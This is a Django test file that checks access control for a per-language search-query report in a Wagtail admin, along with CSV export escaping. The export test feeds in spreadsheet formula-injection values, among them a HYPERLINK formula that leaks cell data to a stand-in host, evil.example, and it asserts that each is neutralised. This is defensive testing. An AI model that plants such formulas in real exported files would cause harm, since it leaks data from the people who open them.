"""Reports → Search queries per language: a regional editor's report opens on their language
and shows no other; site administrators see and filter every language; the export cannot run
a formula a visitor typed."""

import csv
import datetime
import io

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.test import TestCase
from django.utils import timezone
from wagtail.models import Locale

from home.locales import editor_group_name
from search.access import ADMINISTRATORS_GROUP
from search.models import DailyQuery

REPORT = "/admin/reports/search-queries/"


class QueryReportPerLanguageTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        today = timezone.localdate()
        for code, query, searches in [
            ("sq", "dhuna", 5),
            ("bg", "насилие", 4),
            ("en", "kinship", 3),
        ]:
            DailyQuery.objects.create(
                locale=Locale.objects.get(language_code=code),
                date=today,
                query=query,
                searches=searches,
            )
        users = get_user_model().objects
        cls.admin = users.create_superuser("admin", "admin@example.org", "x")
        cls.editor_sq = users.create_user("editor-sq", password="x")
        cls.editor_sq.groups.add(Group.objects.get(name=editor_group_name("sq")))

    def report(self, user, **params):
        self.client.force_login(user)
        response = self.client.get(REPORT, params)
        self.assertEqual(response.status_code, 200)
        return response

    def queries(self, response):
        return [row["query"] for row in response.context["object_list"]]

    def test_an_editor_sees_only_their_language_whatever_they_ask_for(self):
        opened = self.report(self.editor_sq)
        self.assertEqual(self.queries(opened), ["dhuna"])
        self.assertNotContains(opened, 'value="bg"')
        self.assertNotContains(opened, "All languages")
        self.assertEqual(self.queries(self.report(self.editor_sq, language="bg")), ["dhuna"])
        self.assertEqual(self.queries(self.report(self.editor_sq, language="")), ["dhuna"])
        export = self.report(self.editor_sq, language="bg", export="csv")
        rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
        self.assertEqual([row[0] for row in rows[1:]], ["dhuna"])

    def test_site_administrators_see_and_filter_every_language(self):
        webmaster = get_user_model().objects.create_user("webmaster", password="x")
        webmaster.groups.add(Group.objects.get(name=ADMINISTRATORS_GROUP))
        for user in (self.admin, webmaster):
            self.assertEqual(self.queries(self.report(user)), ["dhuna", "насилие", "kinship"])
            self.assertEqual(self.queries(self.report(user, language="bg")), ["насилие"])

    def test_long_queries_are_marked_to_wrap(self):
        response = self.report(self.admin)
        self.assertContains(response, 'class="search-query"')
        self.assertContains(response, "search/admin.css")


class QueryExportTests(TestCase):
    def test_a_query_that_looks_like_a_formula_is_exported_as_text(self):
        english = Locale.objects.get(language_code="en")
        typed = [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\tcmd",
            "\rcmd",
            "foster care",
        ]
        for searches, query in enumerate(typed, start=1):
            DailyQuery.objects.create(
                locale=english, date=datetime.date(2026, 11, 2), query=query, searches=searches
            )
        admin = get_user_model().objects.create_superuser("admin", "admin@example.org", "x")
        self.client.force_login(admin)
        response = self.client.get(REPORT, {"export": "csv", "date_from": "2026-11-01"})
        self.assertEqual(response.status_code, 200)
        self.assertIn("attachment", response["Content-Disposition"])
        content = b"".join(response.streaming_content).decode()
        rows = {row[0]: row[2] for row in list(csv.reader(io.StringIO(content)))[1:]}
        self.assertEqual(
            rows,
            {
                "foster care": "7",
                "'\rcmd": "6",
                "'\tcmd": "5",
                "'@SUM(A1:A9)": "4",
                "'-2+3": "3",
                "'+1+1": "2",
                '\'=HYPERLINK("http://evil.example/?"&A1,"Click")': "1",
            },
        )
